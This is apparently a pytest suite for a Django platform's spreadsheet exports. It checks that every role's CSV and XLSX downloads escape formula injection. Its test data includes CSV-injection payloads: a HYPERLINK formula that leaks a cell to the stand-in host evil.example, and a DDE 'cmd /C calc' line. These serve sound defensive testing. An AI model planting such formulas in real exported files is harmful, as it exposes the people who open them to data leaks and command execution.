"""Every spreadsheet the platform hands out escapes formulas, in CSV and XLSX, for every role that may download it.

Each export gets rows whose text columns start with = + - @, a tab or a carriage return; no cell of the file
may still start with one of them (OWASP CSV injection), and the planted values must be there, escaped.
"""

import csv
import datetime as dt
import io
import re
from dataclasses import dataclass

import openpyxl
import pytest
from django.contrib import admin
from django.test import RequestFactory
from django.utils import timezone

from candidates.models import Orientation
from events import services as event_services
from events.models import SessionCompany
from prospecting.models import Settlement
from tescforce import exports
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _dangerous(value) -> bool:
    # A plain (negative) number is not a formula: spreadsheets read it as the number it is.
    return (isinstance(value, str) and value.startswith(TRIGGERS)
            and not re.fullmatch(r"-?\d+(?:[.,]\d+)?", value))


def _h(i: int) -> str:
    return HOSTILE[i % len(HOSTILE)]


@dataclass
class Case:
    user: object
    url: str          # admin changelist (import-export) or a hand-written export's URL
    planted: list     # hostile values that must come out escaped
    admin_export: bool = True


# --- data for each export ----------------------------------------------------------------------------

def _candidates(recruiter_company=None):
    planted = []
    campaign = factories.CampaignFactory(name=_h(0), city=_h(1))
    for i, value in enumerate(HOSTILE):
        candidate = factories.CandidateFactory(first_name=value, last_name=_h(i + 1), city=_h(i + 2),
                                               email=f"{'=+-@'[i % 4]}x{i}@example.org", utm_source=value,
                                               shown_to_recruiters=True, source_campaign=campaign)
        if recruiter_company is not None:
            Orientation.objects.create(candidate=candidate, company=recruiter_company)
        planted.append(value)
    return planted


def case_candidates_coordinator(people):
    return Case(people["coordinator"], "/admin/candidates/candidate/", _candidates())


def case_candidates_recruiter(people):
    return Case(people["recruiter"], "/admin/candidates/candidate/", _candidates(people["company"]))


def case_campaigns_coordinator(people):
    for i, value in enumerate(HOSTILE):
        factories.CampaignFactory(name=value, city=_h(i + 1))
    return Case(people["coordinator"], "/admin/candidates/campaign/", list(HOSTILE))


def _companies(people, role):
    company = people["company"]
    if role == "recruiter":
        # A recruiter exports their own company only: its text columns carry the hostile values.
        company.name, company.city, company.siret = HOSTILE[0], HOSTILE[3], HOSTILE[4]
        company.save()
        return Case(people[role], "/admin/companies/company/", [HOSTILE[0], HOSTILE[3], HOSTILE[4]])
    for i, value in enumerate(HOSTILE):
        factories.CompanyFactory(name=value, city=_h(i + 1), siret=_h(i + 2)[:14])
    return Case(people[role], "/admin/companies/company/", list(HOSTILE))


def _postings(people, role):
    for i, value in enumerate(HOSTILE):
        factories.JobPostingFactory(company=people["company"], title=value, city=_h(i + 1), salary_min=30000)
    return Case(people[role], "/admin/companies/jobposting/", list(HOSTILE))


def _prospects(people, role):
    officer = people["prospecting"]
    for i, value in enumerate(HOSTILE):
        prospect = factories.ProspectFactory(name=value, city=_h(i + 1), source=_h(i + 2), lost_reason=_h(i + 3),
                                             owner=officer)
        factories.MeetingFactory(prospect=prospect, officer=officer, place=_h(i + 4), next_step=_h(i + 5))
    return prospect


def case_prospects(people, role):
    _prospects(people, role)
    return Case(people[role], "/admin/prospecting/prospect/", list(HOSTILE))


def case_meetings(people, role):
    _prospects(people, role)
    return Case(people[role], "/admin/prospecting/meeting/", list(HOSTILE))


def case_dashboard_talent(people):
    for value in HOSTILE:
        factories.CandidateFactory(source_campaign=factories.CampaignFactory(name=value))
    return Case(people["coordinator"], "/pilotage/tableau-de-bord/?export=registrations_by_campaign", list(HOSTILE),
                admin_export=False)


def case_dashboard_business(people):
    officer = people["prospecting"]
    for i, value in enumerate(HOSTILE):
        prospect = factories.ProspectFactory(name=value, owner=officer)
        Settlement.objects.create(prospect=prospect, settled_on=timezone.localdate(), site_city=_h(i + 1),
                                  jobs_planned=3)
    return Case(officer, "/pilotage/tableau-de-bord/?export=settlements", list(HOSTILE), admin_export=False)


def case_attendance_sheet(people, role):
    session = factories.SessionFactory(starts_at=timezone.now() + dt.timedelta(days=3))
    for i, value in enumerate(HOSTILE):
        candidate = factories.CandidateFactory(last_name=value, first_name=_h(i + 1))
        event_services.registration_book(session=session, candidate=candidate)
    return Case(people[role], f"/admin/events/session/{session.pk}/emargement.csv", list(HOSTILE),
                admin_export=False)


def case_company_list(people, role):
    # A company's list of the candidates it will meet: people oriented to it with the consent to be shown.
    session = factories.SessionFactory(starts_at=timezone.now() + dt.timedelta(days=3), capacity=20)
    SessionCompany.objects.create(session=session, company=people["company"])
    for i, value in enumerate(HOSTILE):
        candidate = factories.CandidateFactory(last_name=value, first_name=_h(i + 1), shown_to_recruiters=True)
        Orientation.objects.create(candidate=candidate, company=people["company"])
        event_services.registration_book(session=session, candidate=candidate)
    return Case(people[role], f"/pilotage/sessions/{session.pk}/listes/{people['company'].pk}/csv/", list(HOSTILE),
                admin_export=False)


# (model label or export name, role) -> builder. The coverage test below checks that every admin export a
# role may use is in this table.
CASES = {
    ("candidates.candidate", "coordinator"): lambda p: case_candidates_coordinator(p),
    ("candidates.candidate", "recruiter"): lambda p: case_candidates_recruiter(p),
    ("candidates.campaign", "coordinator"): lambda p: case_campaigns_coordinator(p),
    **{("companies.company", role): (lambda p, r=role: _companies(p, r))
       for role in ("coordinator", "recruiter", "hotline", "prospecting")},
    **{("companies.jobposting", role): (lambda p, r=role: _postings(p, r))
       for role in ("coordinator", "recruiter", "hotline")},
    **{("prospecting.prospect", role): (lambda p, r=role: case_prospects(p, r))
       for role in ("coordinator", "prospecting")},
    **{("prospecting.meeting", role): (lambda p, r=role: case_meetings(p, r))
       for role in ("coordinator", "prospecting")},
    ("dashboard", "coordinator"): lambda p: case_dashboard_talent(p),
    ("dashboard", "prospecting"): lambda p: case_dashboard_business(p),
    ("attendance-sheet", "coordinator"): lambda p: case_attendance_sheet(p, "coordinator"),
    ("attendance-sheet", "hotline"): lambda p: case_attendance_sheet(p, "hotline"),
    ("company-list", "coordinator"): lambda p: case_company_list(p, "coordinator"),
    ("company-list", "recruiter"): lambda p: case_company_list(p, "recruiter"),
}


@pytest.fixture
def people(coordinator, hotline_agent, prospecting_officer, company_a, recruiter_a):
    return {"coordinator": coordinator, "hotline": hotline_agent, "prospecting": prospecting_officer,
            "recruiter": recruiter_a, "company": company_a}


# --- reading the files ---------------------------------------------------------------------------------

def _download(client, case: Case, fmt: str):
    if not case.admin_export:
        return client.get(case.url)
    page = client.get(case.url + "export/")
    assert page.status_code == 200
    form = page.context["form"]
    format_index = next(value for value, label in form.fields["format"].choices if label.lower() == fmt)
    data = {"format": format_index, "resource": "0"}
    data |= {name: "on" for name, field in form.fields.items() if field.widget.input_type == "checkbox"}
    return client.post(case.url + "export/", data)


def _cells_csv(response) -> list:
    text = response.content.decode("utf-8-sig")
    dialect = ";" if response.content.startswith(b"\xef\xbb\xbf") else ","
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=dialect) for cell in row]


def _cells_xlsx(response) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells), [c.value for c in cells if c.data_type == "f"]
    # XML reads a stored carriage return back as a line feed; none of the planted values holds a line feed.
    return [cell.value.replace("\n", "\r") if isinstance(cell.value, str) else cell.value for cell in cells]


@pytest.mark.parametrize("key", list(CASES), ids=lambda k: f"{k[0]}-{k[1]}")
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_export_escapes_formulas_for_every_role(client_for, people, key, fmt):
    case = CASES[key](people)
    if not case.admin_export and fmt == "xlsx":
        pytest.skip("offered as CSV only; the shared helper's XLSX is checked below")
    response = _download(client_for(case.user), case, fmt)
    assert response.status_code == 200, response.content[:300]
    cells = _cells_csv(response) if fmt == "csv" else _cells_xlsx(response)
    assert not [c for c in cells if _dangerous(c)]
    texts = {c for c in cells if isinstance(c, str)}
    for value in case.planted:
        assert any(c.startswith("'" + value) for c in texts), (value, sorted(texts)[:40])


def test_every_admin_export_a_role_can_use_is_checked(people):
    """A new export, or a role newly allowed to export, must join CASES above."""
    request_factory = RequestFactory()
    usable = set()
    for model, model_admin in admin.site._registry.items():
        if not hasattr(model_admin, "get_export_formats"):
            continue
        assert model_admin.get_export_formats() == exports.EXPORT_FORMATS, model
        for role, user in people.items():
            if role == "company":
                continue
            request = request_factory.get("/admin/")
            request.user = user
            if model_admin.has_export_permission(request):
                usable.add((model._meta.label_lower, role))
    assert usable
    assert usable <= set(CASES), usable - set(CASES)


def test_only_the_roles_in_the_table_reach_the_hand_written_exports(client_for, people):
    session = factories.SessionFactory()
    for role in ("recruiter", "hotline", "prospecting", "coordinator"):
        client = client_for(people[role])
        sheet = client.get(f"/admin/events/session/{session.pk}/emargement.csv").status_code
        dashboard = client.get("/pilotage/tableau-de-bord/?export=registrations_by_month").status_code
        assert (sheet == 200) == (("attendance-sheet", role) in CASES)
        assert (dashboard == 200) == (role == "coordinator")
        SessionCompany.objects.get_or_create(session=session, company=people["company"])
        company_list = client.get(f"/pilotage/sessions/{session.pk}/listes/{people['company'].pk}/csv/")
        # An empty list sends its readers back to its page (302); those who may not read it get 403.
        assert (company_list.status_code in (200, 302)) == (("company-list", role) in CASES)
        if role == "prospecting":
            assert client.get("/pilotage/tableau-de-bord/?export=settlements").status_code == 200


def test_numbers_stay_numbers_and_text_is_escaped_in_the_shared_helper():
    rows = [[-12, 3.5, "-12", "-3,5", "+33 6 12 34 56 78", "=1+1", "\t=1", "\r=1", "@x", "Dupont", None]]
    headers = [f"c{i}" for i in range(len(rows[0]))]
    xlsx = exports.spreadsheet_response(headers=headers, rows=rows, filename="t", file_format="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    values = [cell.value.replace("\n", "\r") if isinstance(cell.value, str) else cell.value for cell in sheet[2]]
    types = [cell.data_type for cell in sheet[2]]
    assert values[:4] == [-12, 3.5, "-12", "-3,5"] and types[:2] == ["n", "n"]
    assert values[4:10] == ["'+33 6 12 34 56 78", "'=1+1", "'\t=1", "'\r=1", "'@x", "Dupont"]
    assert "f" not in types
    csv_response = exports.spreadsheet_response(headers=headers, rows=rows, filename="t")
    assert csv_response.content.startswith(b"\xef\xbb\xbf")
    assert csv_response["Content-Disposition"] == 'attachment; filename="t.csv"'
    line = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"), newline=""), delimiter=";"))[1]
    assert line == ["-12", "3.5", "-12", "-3,5", "'+33 6 12 34 56 78", "'=1+1", "'\t=1", "'\r=1", "'@x", "Dupont", ""]


def test_escaping_is_idempotent_and_leaves_other_values_alone():
    assert exports.escape_cell(exports.escape_cell("=1+1")) == "'=1+1"
    day = dt.date(2026, 3, 21)
    assert [exports.escape_cell(v) for v in (day, 0, -4, True, None, "", "Hélène")] == [day, 0, -4, True, None, "",
                                                                                        "Hélène"]

